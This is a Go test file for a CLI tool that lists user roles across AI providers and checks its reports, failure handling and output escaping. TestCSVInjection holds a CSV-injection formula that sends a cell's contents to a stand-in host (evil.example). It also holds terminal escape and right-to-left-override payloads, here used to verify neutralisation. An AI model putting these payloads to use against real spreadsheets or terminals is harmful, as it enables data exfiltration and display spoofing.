package main

import (
	"crypto/sha256"
	"encoding/hex"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rolecall/rolecall/api/specs"
	"github.com/rolecall/rolecall/fixture"
	"github.com/rolecall/rolecall/providertest"
	"github.com/rolecall/rolecall/report"
)

// The tests in this file reproduce what made a report mislead (issue 16):
// each failed before the change it covers.

// failingAfter puts a proxy in front of srv that passes n requests, then
// answers every other with 401, and returns srv's URL through it.
func failingAfter(t *testing.T, srv *providertest.Server, n int64) string {
	t.Helper()
	u, err := url.Parse(srv.URL())
	require.NoError(t, err)
	proxy := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: u.Scheme, Host: u.Host})
	var seen atomic.Int64
	front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if seen.Add(1) > n {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnauthorized)
			w.Write([]byte(`{"error":{"message":"token revoked \u001b]0;pwned\u0007 now","type":"invalid_request_error"}}`))
			return
		}
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(front.Close)
	return front.URL + u.Path
}

func readReport(t *testing.T, file string) *report.Report {
	t.Helper()
	rep, err := report.ReadFile(file)
	require.NoError(t, err)
	return rep
}

// TestRunRecord: every report says when, with what and whether each
// provider finished.
func TestRunRecord(t *testing.T) {
	t.Parallel()
	srv, e := fake(t, "cortex", 6, providertest.Options{})
	dir := t.TempDir()
	for _, format := range []string{"json", "ndjson", "csv"} {
		file := filepath.Join(dir, "r."+format)
		r := inproc(t, e, "list", "--format", format, "--output", file)
		require.Equal(t, 0, r.code, r.stderr)
		rep := readReport(t, file)
		run := rep.Run
		require.NotNil(t, run, format)
		if format != "json" {
			_, err := os.Stat(report.SidecarName(file))
			require.NoError(t, err, "ndjson and csv keep the run record beside the report")
		}
		assert.Equal(t, report.RunSchema, run.Schema)
		assert.Len(t, run.ID, 16)
		assert.False(t, run.Started.IsZero())
		assert.False(t, run.Finished.Before(run.Started))
		assert.Equal(t, "UTC", run.Started.Location().String())
		assert.Equal(t, "devel", run.Version)
		require.Len(t, run.Providers, 1)
		p := run.Providers[0]
		u, _ := url.Parse(srv.URL())
		assert.Equal(t, u.Host, p.Host)
		assert.Equal(t, report.StatusComplete, p.Status)
		assert.EqualValues(t, len(rep.Rows), p.Assignments)
		assert.EqualValues(t, len(srv.Tenant().Users), *p.ReportedTotal, "Cortex reports its users")
		// A user without a role has no row, so users falls short of the
		// provider's total on a complete run; listed_users, counted as the
		// total is, says the listing missed no one.
		require.NotNil(t, p.ListedUsers, "listed_users stands beside reported_total")
		assert.Equal(t, *p.ReportedTotal, *p.ListedUsers, "a complete listing walked every user Cortex counts")
		assert.Less(t, p.Users, *p.ListedUsers, "the tenant has a user without a role: not in users, in listed_users")
		assert.Positive(t, p.Users)
		assert.Positive(t, p.Requests)
		spec, err := specs.Bytes("cortex")
		require.NoError(t, err)
		sum := sha256.Sum256(spec)
		assert.Equal(t, hex.EncodeToString(sum[:]), p.SpecSHA256)
		// Cortex's users and keys come from cortex-admin.yaml: the record
		// names that spec too.
		admin, err := fs.ReadFile(specs.FS(), "cortex-admin.yaml")
		require.NoError(t, err)
		sum = sha256.Sum256(admin)
		assert.Equal(t, map[string]string{"cortex-admin.yaml": hex.EncodeToString(sum[:])}, p.SpecParts, "every spec part is named")
	}
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	assert.Len(t, entries, 5, "reports and sidecars only: no temporary file is left")

	// A stream to stdout has no sidecar; --run-file keeps its record.
	runFile := filepath.Join(dir, "stdout.run.json")
	r := inproc(t, e, "list", "--format", "ndjson", "--run-file", runFile)
	require.Equal(t, 0, r.code, r.stderr)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "stdout"), []byte(r.stdout), 0o644))
	rep := readReport(t, filepath.Join(dir, "stdout"))
	require.NotNil(t, rep.Run)
	assert.Equal(t, report.StatusComplete, rep.Run.Providers[0].Status)
}

// TestBadTokenKeepsTheGoodReport: a failed run does not overwrite a good
// report with an empty one; it writes <output>.partial and says so.
func TestBadTokenKeepsTheGoodReport(t *testing.T) {
	t.Parallel()
	_, e := fake(t, "cortex", 6, providertest.Options{})
	dir := t.TempDir()
	keep := filepath.Join(dir, "keep.json")
	r := inproc(t, e, "list", "--format", "json", "--output", keep)
	require.Equal(t, 0, r.code, r.stderr)
	good, err := os.ReadFile(keep)
	require.NoError(t, err)

	bad := e.merge(env{"CORTEX_API_TOKEN": "bad"})
	r = inproc(t, bad, "list", "--format", "json", "--output", keep)
	require.Equal(t, 1, r.code)
	now, err := os.ReadFile(keep)
	require.NoError(t, err)
	assert.Equal(t, string(good), string(now), "the good report is untouched")
	assert.Contains(t, r.stderr, "keep.json.partial")
	partial := readReport(t, keep+".partial")
	assert.Empty(t, partial.Rows)
	require.Len(t, partial.Run.Providers, 1)
	assert.Equal(t, report.StatusFailed, partial.Run.Providers[0].Status)
	assert.Contains(t, partial.Run.Providers[0].Error, "401")
	assert.False(t, partial.Run.Complete())

	r = inproc(t, bad, "list", "--format", "json", "--output", keep, "--partial")
	require.Equal(t, 1, r.code)
	assert.False(t, readReport(t, keep).Run.Complete(), "--partial writes the output itself, marked failed")
}

// TestFailedProviderLeftOutOfEveryFormat: a provider that fails part way
// has no row in any format (CSV and NDJSON kept them, JSON dropped them).
func TestFailedProviderLeftOutOfEveryFormat(t *testing.T) {
	t.Parallel()
	good, e := fake(t, "vectara", 5, providertest.Options{})
	failing := providertest.NewServer(t, "openai", providertest.Options{Tenant: providertest.NewTenant("openai", 30, 2)})
	for _, extra := range [][]string{nil, {"--unsorted"}} {
		for _, format := range []string{"table", "json", "ndjson", "csv"} {
			// The users page and five users' roles pass; then 401.
			e := e.merge(envFor("openai", failingAfter(t, failing, 6), failing.Token()))
			r := inproc(t, e, args([]string{"list", "--max-retries", "0", "--concurrency", "1"}, formatArgs(format), extra)...)
			require.Equal(t, 1, r.code, r.stderr)
			assert.Contains(t, r.stderr, "openai: ")
			assert.Contains(t, r.stderr, "the report holds vectara only")
			rows := parseReport(t, format, r.stdout)
			for _, row := range rows {
				require.Equal(t, "vectara", row.Provider, "%s %v", format, extra)
			}
			assert.Equal(t, wantRows(good.Tenant()), oracle(rows, "vectara"), format)
		}
	}
	// The error line shows the provider's control characters as escapes.
	r := inproc(t, e.merge(envFor("openai", failingAfter(t, failing, 0), failing.Token())), "list", "--max-retries", "0")
	assert.NotContains(t, r.stderr, "\x1b")
	assert.NotContains(t, r.stderr, "\a")
	assert.Contains(t, r.stderr, `pwned`)
}

// TestCSVInjection: a user named like a formula is neutralised in CSV
// (OWASP), shown with escapes in the table, and exact in JSON.
func TestCSVInjection(t *testing.T) {
	t.Parallel()
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	tn := providertest.NewTenant("cortex", 8, 1)
	tn.Users[0].Name = evil
	// Another user holding a role (the tenant has users without any).
	mallory := slices.IndexFunc(tn.Users[1:], func(u providertest.User) bool { return len(u.Grants) > 0 }) + 1
	require.Positive(t, mallory)
	tn.Users[mallory].Name = "Mallory\x1b]8;;http://evil.example\x07\u202eexe.txt"
	srv := providertest.NewServer(t, "cortex", providertest.Options{Tenant: tn})
	e := envFor("cortex", srv.URL(), srv.Token())

	r := inproc(t, e, "list", "--format", "csv")
	require.Equal(t, 0, r.code, r.stderr)
	assert.Contains(t, r.stdout, `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`)
	assert.NotContains(t, r.stdout, `,"=HYPERLINK`)
	rows := parseReport(t, "csv", r.stdout)
	assert.Equal(t, wantRows(tn), oracle(rows, "cortex"), "read back exactly")

	r = inproc(t, e, "list", "--format", "csv", "--csv-raw")
	assert.Contains(t, r.stdout, `,"=HYPERLINK(`)

	for _, cols := range [][]string{nil, {"--wide"}, {"--columns", "email,name"}} {
		r = inproc(t, e, args([]string{"list", "--format", "table"}, cols)...)
		require.Equal(t, 0, r.code, r.stderr)
		assert.NotContains(t, r.stdout, "\x1b", "%s", cols)
		assert.NotContains(t, r.stdout, "\u202e", "%s", cols)
		if cols != nil { // the default table has no name
			assert.Contains(t, r.stdout, `Mallory\x1b]8;;http://evil.example\x07\u202eexe.txt`, "%s", cols)
		}
	}

	r = inproc(t, e, "list", "--format", "json")
	assert.Equal(t, wantRows(tn), oracle(parseReport(t, "json", r.stdout), "cortex"), "JSON is exact")
}

// TestProgressNeverOverStreamedRows: rows streamed to the terminal are not
// overwritten by the status area's redraws.
func TestProgressNeverOverStreamedRows(t *testing.T) {
	t.Parallel()
	_, e := fake(t, "vectara", 5, providertest.Options{})
	stdout, stderr := &terminal{}, &terminal{}
	code := run(t.Context(), []string{"list", "--format", "csv", "--unsorted"}, e.get, stdout, stderr)
	require.Equal(t, 0, code, stderr.String())
	assert.NotContains(t, stderr.String(), "\x1b[", "no status area drawn over the rows")
	assert.Contains(t, stdout.String(), "vectara,")
	// Sorted output is written after the status area stops: it is drawn.
	stdout, stderr = &terminal{}, &terminal{}
	code = run(t.Context(), []string{"list", "--format", "csv"}, e.get, stdout, stderr)
	require.Equal(t, 0, code)
	assert.Contains(t, stderr.String(), "\x1b[")
}

// TestEmailMatchingNoOne says so.
func TestEmailMatchingNoOne(t *testing.T) {
	t.Parallel()
	srv, e := fake(t, "vectara", 5, providertest.Options{})
	someone := srv.Tenant().Users[0].Email
	r := inproc(t, e, "list", "--email", "nobody@example.com,"+strings.ToUpper(someone))
	require.Equal(t, 0, r.code, r.stderr)
	assert.Contains(t, r.stderr, "warning: --email nobody@example.com matched no user in vectara")
	assert.NotContains(t, r.stderr, someone)
}

func TestHelpHelp(t *testing.T) {
	t.Parallel()
	for _, a := range []string{"--help", "-h"} {
		r := inproc(t, env{}, "help", a)
		assert.Equal(t, 0, r.code, r.stderr)
		assert.Contains(t, r.stdout, "Commands:")
	}
}

// TestVerifyFailureOnStdout: a failed listing is not reported as clean.
func TestVerifyFailureOnStdout(t *testing.T) {
	t.Parallel()
	_, e := fake(t, "cortex", 3, providertest.Options{})
	r := inproc(t, e.merge(env{"CORTEX_API_TOKEN": "bad"}), "verify")
	require.Equal(t, 1, r.code)
	assert.Contains(t, r.stdout, "cortex: FAILED, not verified: cortex: ")
	assert.Contains(t, r.stdout, "401")
	assert.NotContains(t, r.stdout, "no violation, no drift\n")
}

// TestDiffWarnsAboutAMissingProvider: q3 simply lacks a provider that
// failed; diff does not call its users revoked.
func TestDiffWarnsAboutAMissingProvider(t *testing.T) {
	t.Parallel()
	_, e := fake(t, "vectara", 4, providertest.Options{})
	_, e2 := fake(t, "cortex", 8, providertest.Options{})
	both := e.merge(e2)
	dir := t.TempDir()
	q2, q3 := filepath.Join(dir, "q2.ndjson"), filepath.Join(dir, "q3.csv")
	require.Equal(t, 0, inproc(t, both, "list", "--format", "ndjson", "--output", q2).code)
	r := inproc(t, both.merge(env{"CORTEX_API_TOKEN": "bad"}), "list", "--format", "csv", "--output", q3, "--partial")
	require.Equal(t, 1, r.code)

	r = inproc(t, env{}, "diff", q2, q3)
	assert.Equal(t, 2, r.code, "a provider left out: the reports cannot be called equal")
	assert.Contains(t, r.stdout, "WARNING: cortex failed in the new report")
	assert.Contains(t, r.stdout, "revoked 0")
	assert.Contains(t, r.stderr, "cortex left out of the comparison")

	r = inproc(t, env{}, "diff", "--allow-partial", q2, q3)
	assert.Equal(t, 1, r.code)
	assert.Regexp(t, `revoked \d+`, r.stdout)
	assert.NotContains(t, r.stdout, "revoked 0")

	r = inproc(t, env{}, "diff", q2, q2)
	assert.Equal(t, 0, r.code, r.stderr)
	assert.Contains(t, r.stdout, "no differences")
	assert.NotContains(t, r.stdout, "WARNING")
}

// TestRecordReplacesWhole: a re-recording removes stale pages; a failed
// one leaves the fixtures as they were.
func TestRecordReplacesWhole(t *testing.T) {
	t.Parallel()
	_, e := fake(t, "vectara", 5, providertest.Options{ShortPages: true})
	dir := t.TempDir()
	r := inproc(t, e, "record", "--provider", "vectara", "--dir", dir)
	require.Equal(t, 0, r.code, r.stderr)
	stale := filepath.Join(dir, "vectara", "listing.listUsers.page-99.json")
	first, err := os.ReadFile(filepath.Join(dir, "vectara", "listing.listUsers.page-1.json"))
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(stale, first, 0o644))

	r = inproc(t, e, "record", "--provider", "vectara", "--dir", dir)
	require.Equal(t, 0, r.code, r.stderr)
	_, err = os.Stat(stale)
	assert.True(t, os.IsNotExist(err), "the stale page is gone")
	before, err := fixture.LoadDir(os.DirFS(dir), "vectara")
	require.NoError(t, err)

	bad := e.merge(env{"VECTARA_API_KEY": "bad"})
	r = inproc(t, bad, "record", "--provider", "vectara", "--dir", dir)
	require.Equal(t, 1, r.code)
	assert.Contains(t, r.stdout, "FAILED")
	after, err := fixture.LoadDir(os.DirFS(dir), "vectara")
	require.NoError(t, err)
	assert.Equal(t, before, after, "the good fixtures are not replaced by a 401")
	entries, err := os.ReadDir(dir)
	require.NoError(t, err)
	assert.Len(t, entries, 1, "no staging directory is left")

	r = inproc(t, bad, "record", "--provider", "vectara", "--dir", dir, "--keep-failed")
	require.Equal(t, 1, r.code)
	after, err = fixture.LoadDir(os.DirFS(dir), "vectara")
	require.NoError(t, err)
	require.Len(t, after, 1)
	assert.Equal(t, 401, after[0].Response.Status, "asked for: the failed recording replaces them")
}

// TestTimeoutSameInEveryFormat: a provider the --timeout stops part way is
// left out of CSV and NDJSON as of JSON, and its run record says why.
func TestTimeoutSameInEveryFormat(t *testing.T) {
	t.Parallel()
	_, e := fake(t, "vectara", 4, providertest.Options{})
	// OpenAI answers its users page at once, then each user's roles slowly.
	_, e2 := fake(t, "openai", 40, providertest.Options{Latency: 150 * time.Millisecond})
	e = e.merge(e2)
	dir := t.TempDir()
	for _, format := range []string{"json", "ndjson", "csv"} {
		file := filepath.Join(dir, "r."+format)
		r := inproc(t, e, "list", "--format", format, "--timeout", "700ms", "--concurrency", "2", "--output", file)
		require.Equal(t, 1, r.code, r.stderr)
		rep := readReport(t, file+".partial")
		for _, row := range rep.Rows {
			require.Equal(t, "vectara", row.Provider, format)
		}
		require.NotNil(t, rep.Run, format)
		p := rep.Run.Provider("openai")
		require.NotNil(t, p)
		assert.Equal(t, report.StatusFailed, p.Status)
		assert.Contains(t, p.Error, "timeout")
		assert.Equal(t, report.StatusComplete, rep.Run.Provider("vectara").Status)
	}
}
